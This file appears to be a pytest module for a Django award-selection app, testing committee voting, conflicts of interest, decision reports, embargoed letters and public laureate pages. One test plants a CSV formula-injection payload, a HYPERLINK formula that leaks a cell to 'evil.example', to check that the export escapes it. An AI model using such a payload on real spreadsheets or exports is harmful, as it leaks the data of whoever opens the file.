"""The selection's pages as each role uses them, the report by its text, the public page."""

import csv
import io
import json
from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from laurel.selection import queries, services
from laurel.selection.models import Ballot, Decision, Letter, ShortlistEntry, VotingRound
from tests.selection import pages_helpers
from tests.selection.pages_helpers import complete, pdf_text, shortlist_all, signed_in

# Fixtures these tests share with other modules.
announced = pages_helpers.announced
# Built once for the module (tests.conftest.shared_world).
world, child10, staff_user, committee = pages_helpers.shared_committee()
drafted = pages_helpers.drafted
locked = pages_helpers.locked

TEXTS = {"sv": "Svensk text.", "en": "English text."}


def test_the_chair_shortlists_from_the_results_table(client, committee):
    chair = signed_in(client, committee.chair)
    page = chair.get(reverse("selection:home"))
    assert page.status_code == 200
    assert page.content.decode().count('name="kind" value="shortlist"') == 5

    response = chair.post(
        reverse("selection:shortlist"),
        {"candidate": committee.candidates[2].pk, "kind": "reserve", "note": "Strong on tech"},
    )

    assert response.status_code == 302
    entry = ShortlistEntry.objects.get()
    assert (entry.candidate, entry.kind, entry.note, entry.added_by) == (
        committee.candidates[2],
        "reserve",
        "Strong on tech",
        committee.chair,
    )


def test_a_member_is_sent_to_the_meeting_and_cannot_lead(client, committee):
    alice = signed_in(client, committee.members[0])

    assert alice.get(reverse("selection:home")).url == reverse("selection:meeting")
    assert alice.post(reverse("selection:shortlist"), {}).status_code == 404
    assert alice.get(reverse("selection:decision")).status_code == 404


def test_the_meeting_shows_a_conflicted_member_only_that_there_is_a_conflict(
    client, committee, staff_user
):
    entries = shortlist_all(committee, staff_user)
    services.go_to(entries[0].cycle, entry=entries[0], actor=committee.chair)
    name = entries[0].candidate.name
    alice, bob = committee.members

    bob_page = signed_in(client, bob).get(reverse("selection:meeting_current")).content.decode()
    alice_page = signed_in(client, alice).get(reverse("selection:meeting")).content.decode()

    assert "You have a conflict with this candidate." in bob_page
    assert name not in bob_page
    assert name in alice_page
    assert 'hx-trigger="every 3s"' in alice_page


def test_the_chair_steps_through_and_records_the_discussion(client, committee, staff_user):
    entries = shortlist_all(committee, staff_user)
    chair = signed_in(client, committee.chair)

    chair.post(reverse("selection:go"), {"entry": entries[1].pk})
    page = chair.get(reverse("selection:meeting")).content.decode()
    chair.post(
        reverse("selection:record", args=[entries[1].pk]),
        {
            "arguments": "Unique reach.",
            "outcome": "supported",
            "recused": [committee.members[1].pk],
        },
    )

    assert f"Record of the discussion of {entries[1].candidate.name}" in page
    entry = ShortlistEntry.objects.get(pk=entries[1].pk)
    assert (entry.arguments, entry.outcome, [u.pk for u in entry.recused.all()]) == (
        "Unique reach.",
        "supported",
        [committee.members[1].pk],
    )


def test_a_member_votes_once_and_a_conflicted_candidate_is_not_on_the_ballot(
    client, committee, staff_user
):
    entries = shortlist_all(committee, staff_user)
    candidates = [e.candidate for e in entries[:3]]
    round_ = services.open_round(
        candidates[0].cycle, method="ranked", secret=True, candidates=candidates, actor=staff_user
    )
    bob = signed_in(client, committee.members[1])
    url = reverse("selection:round", args=[round_.pk])

    form = bob.get(url).content.decode()
    bad = bob.post(url, {f"c{candidates[1].pk}": "9"})
    first = bob.post(url, {f"c{candidates[1].pk}": "1", f"c{candidates[2].pk}": "2"})
    again = bob.post(url, {f"c{candidates[1].pk}": "2", f"c{candidates[2].pk}": "1"})

    assert f'name="c{candidates[0].pk}"' not in form
    assert f'name="c{candidates[1].pk}"' in form
    assert bad.status_code == 400
    assert "Ensure this value is less than or equal to 2." in bad.content.decode()
    assert first.status_code == 302
    assert again.status_code == 409
    assert "You have already voted in this round." in again.content.decode()
    assert not Ballot.objects.exists()  # a secret ballot is only added to the tally
    assert VotingRound.objects.get(pk=round_.pk).tally["pairwise"][1][2] == 1


def test_an_open_round_shows_who_voted_how_once_closed(client, committee, staff_user):
    entries = shortlist_all(committee, staff_user)
    a, b = entries[1].candidate, entries[2].candidate
    round_ = services.open_round(
        a.cycle, method="approval", secret=False, candidates=[a, b], actor=staff_user
    )
    alice = committee.members[0]
    services.cast_ballot(round_, voter=alice, ranks={b.pk: 1}, actor=alice)
    chair = signed_in(client, committee.chair)

    chair.post(reverse("selection:close_round", args=[round_.pk]), {"confirmed": "yes"})
    page = chair.get(reverse("selection:round", args=[round_.pk])).content.decode()

    assert f"{alice.full_name or alice.email}: {b.name}" in page
    assert "Who voted how" in page


def test_staff_ask_for_a_slate_and_an_impossible_one_is_explained(staff_client, committee):
    url = reverse("selection:suggest")

    impossible = staff_client.post(
        url, {"max_per_country": 1, "reserve_count": 1, "min_technology": 3}
    )
    possible = staff_client.post(
        url, {"max_per_country": 1, "reserve_count": 1, "from_shortlist": ""}
    )

    assert impossible.status_code == 409
    assert "No slate of 3 meets every constraint" in impossible.content.decode()
    assert possible.status_code == 302
    decision = Decision.objects.get()
    assert sorted(p.candidate.country for p in queries.places(decision)["laureate"]) == [
        "DE",
        "IE",
        "SE",
    ]


def test_an_override_without_a_reason_keeps_what_was_typed(client, committee, drafted):
    chair = signed_in(client, committee.chair)
    laureate = queries.places(drafted)["laureate"][0].candidate
    reserve = queries.places(drafted)["reserve"][0].candidate

    response = chair.post(
        reverse("selection:override"), {"removed": laureate.pk, "added": reserve.pk, "reason": ""}
    )

    assert response.status_code == 400
    body = response.content.decode()
    assert "This field is required." in body
    assert f'<option value="{reserve.pk}" selected>' in body


def test_the_chair_locks_and_the_report_tells_the_whole_decision(
    client, committee, drafted, tmp_path
):
    chair = signed_in(client, committee.chair)
    laureate = queries.places(drafted)["laureate"][-1].candidate
    reserve = queries.places(drafted)["reserve"][0].candidate
    chair.post(
        reverse("selection:override"),
        {"removed": laureate.pk, "added": reserve.pk, "reason": "Balances the group."},
    )
    complete(drafted, chair)

    # The reserve is a second Swedish laureate under "at most 1 per country": the chair's reason.
    chair.post(
        reverse("selection:lock"),
        {"because_country_SE": "Two Swedish organisations.", "confirmed": "yes"},
    )
    report = chair.get(reverse("selection:report"))

    assert Decision.objects.get().state == "locked"
    assert report["Content-Type"] == "application/pdf"
    assert "no-store" in report["Cache-Control"] and "private" in report["Cache-Control"]
    text = " ".join(pdf_text(report.content, tmp_path).split())
    assert "Decision report" in text
    assert "Decision locked by the chair" in text
    assert f"{laureate.name} → {reserve.name}: Balances the group." in text
    assert f"Citation for {reserve.name}." in text
    assert f"Hyllning till {reserve.name}." in text
    assert f"{committee.members[1].full_name} — Ljusglimt (Employment)" in text


def test_letters_are_previewed_edited_and_refused_before_the_embargo(staff_client, locked):
    announce = timezone.localtime(timezone.now() + timedelta(days=3), locked.cycle.zone)

    prepared = staff_client.post(
        reverse("selection:letters"),
        {
            "announce_at": announce.strftime("%Y-%m-%dT%H:%M"),
            "respond_by": (announce + timedelta(days=14)).strftime("%Y-%m-%dT%H:%M"),
        },
    )
    assert prepared.status_code == 302, prepared.content.decode()
    letter = Letter.objects.filter(kind="decision_laureate", language="en").first()
    swedish = Letter.objects.get(kind="decision_laureate", candidate__name="Ljusglimt")
    preview = staff_client.get(reverse("selection:letter", args=[letter.pk])).content.decode()
    staff_client.post(
        reverse("selection:letter", args=[letter.pk]),
        {"subject": "Congratulations", "text": "Dear friends,\n\nYou are a laureate."},
    )
    refused = staff_client.post(
        reverse("selection:release"), {"confirmed": "yes"}, follow=True
    ).content.decode()

    assert "Congratulations! The selection committee has chosen your organisation" in preview
    assert swedish.email.body_text.startswith("Hej Ljusglimt!\n\nGrattis! Urvalskommittén har valt")
    assert "100\xa0000\xa0kr" in swedish.email.body_text  # grouped the Swedish way
    letter.refresh_from_db()
    email = letter.email
    assert (letter.subject, letter.body, letter.edited) == (
        "Congratulations",
        "Dear friends,\n\nYou are a laureate.",
        True,
    )
    assert (email.subject, email.state) == ("Congratulations", "held")
    assert email.body_text.startswith("Dear friends,\n\nYou are a laureate.\n\nPlease tell us by")
    assert "[private-link-1]" in email.body_text  # the link is added after the edited text
    assert "<p>Dear friends,</p>" in email.body_html
    assert "the letters cannot leave before then" in refused
    assert Decision.objects.get().announce_at == announce.replace(second=0, microsecond=0)


def test_the_private_link_is_not_in_the_text_staff_edit(staff_client, locked):
    announce = timezone.localtime(timezone.now() + timedelta(days=3), locked.cycle.zone)
    staff_client.post(
        reverse("selection:letters"),
        {
            "announce_at": announce.strftime("%Y-%m-%dT%H:%M"),
            "respond_by": (announce + timedelta(days=14)).strftime("%Y-%m-%dT%H:%M"),
        },
    )
    letter = Letter.objects.filter(kind="decision_laureate").first()
    url = reverse("selection:letter", args=[letter.pk])

    english = staff_client.get(url).content.decode()
    swedish = staff_client.get(url.replace("/en/", "/sv/")).content.decode()

    assert "private-link" not in letter.body and "/laureate/" not in letter.body
    assert "private-link" not in english
    assert "the laureate's private link to accept or decline" in english
    assert "pristagarens personliga länk" in swedish


@pytest.mark.parametrize("language", ["sv", "en"])
def test_the_laureates_page_in_both_languages(client, announced, language):
    page = client.get(f"/{language}/laureates/").content.decode()

    citation = "Hyllning till" if language == "sv" else "Citation for"
    for place in queries.places(announced)["laureate"]:
        assert place.candidate.name in page
        assert f"{citation} {place.candidate.name}." in page
    assert ("Stödjer barn." if language == "sv" else "Supports children.") in page


def test_the_laureates_as_open_data(client, announced):
    names = sorted(p.candidate.name for p in queries.places(announced)["laureate"])

    as_csv = client.get(reverse("selection:laureates_csv")).content.decode("utf-8-sig")
    as_csv = as_csv.splitlines()
    as_json = json.loads(client.get(reverse("selection:laureates_json")).content)

    assert as_csv[0] == (
        "name,country,what_it_does_sv,what_it_does_en,citation_sv,citation_en,award"
    )
    assert len(as_csv) == 4
    assert sorted(row["name"] for row in as_json["laureates"]) == names
    assert as_json["laureates"][0]["citation_sv"].startswith("Hyllning till")


def test_the_public_laureates_csv_makes_a_formula_text(client, announced):
    place = announced.places.filter(role="laureate").select_related("candidate").first()
    place.candidate.name = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
    place.candidate.save(update_fields=["name"])

    body = client.get(reverse("selection:laureates_csv")).content.decode("utf-8-sig")

    names = [row[0] for row in csv.reader(io.StringIO(body))][1:]
    assert "'" + place.candidate.name in names
    assert not any(name.startswith("=") for name in names)


def test_nothing_is_public_before_the_announcement(client, locked):
    page = client.get(reverse("selection:laureates")).content.decode()

    # The page says when instead (issue 16, item 15), and names no one.
    assert "will be announced here" in page
    assert not any(place.candidate.name in page for place in locked.places.all())
    assert client.get(reverse("selection:laureates_json")).status_code == 404


def test_the_laureates_page_costs_the_same_queries_for_one_and_many(
    client, announced, queries_for_one_and_many
):
    from laurel.laureates.models import Laureate
    from laurel.selection.models import Place

    extra = list(queries.selectable(announced.cycle).exclude(
        pk__in=announced.places.values("candidate_id")
    ))  # fmt: skip

    def add(count):
        for candidate in extra[:count]:
            Place.objects.create(
                decision=announced, candidate=candidate, role="laureate", position=99,
                citation=TEXTS, summary=TEXTS, answer="accepted",
            )  # fmt: skip
            Laureate.objects.create(
                cycle=candidate.cycle, candidate=candidate, accepted_at=timezone.now(),
                publish_name=True, media_consent_at=timezone.now(),
            )  # fmt: skip
            extra.remove(candidate)
            added.append(candidate)

    added = []
    one, many = queries_for_one_and_many(
        lambda: client.get(reverse("selection:laureates")), add, many=1
    )

    assert one == many
    assert len(queries.announced_laureates(announced.cycle)) == 3 + len(added)  # all listed


def test_the_shortlist_costs_the_same_queries_for_one_and_many(
    client, committee, staff_user, queries_for_one_and_many
):
    chair = signed_in(client, committee.chair)
    waiting = list(committee.candidates)

    def add(count):
        for _ in range(count):
            services.shortlist_candidate(waiting.pop(), kind="shortlist", actor=staff_user)

    one, many = queries_for_one_and_many(lambda: chair.get(reverse("selection:home")), add, many=3)

    assert one == many


def test_the_final_selection_costs_the_same_queries_for_one_and_many(
    client, committee, staff_user, child10, queries_for_one_and_many
):
    shortlist_all(committee, staff_user)
    chair = signed_in(client, committee.chair)
    sizes = iter([1, 3])

    def add(_count):
        child10.laureate_count = next(sizes)
        child10.save(update_fields=["laureate_count"])
        services.suggest_slate(
            child10, max_per_country=None, min_per_kind={}, reserve_count=1,
            from_shortlist=True, actor=staff_user,
        )  # fmt: skip

    one, many = queries_for_one_and_many(lambda: chair.get(reverse("selection:decision")), add)

    assert one == many


def test_the_letters_cost_the_same_queries_for_one_and_many(
    staff_client, locked, staff_user, queries_for_one_and_many
):
    from laurel.notifications.services import queue_rendered_email

    def add(count):
        for number in range(count):
            queue_rendered_email(
                "decision_nominator", to=f"n{number}@example.org", language="en",
                subject="S", text="T", batch=services.batch_of(locked),
            )  # fmt: skip

    one, many = queries_for_one_and_many(
        lambda: staff_client.get(reverse("selection:letters")), add
    )

    assert one == many
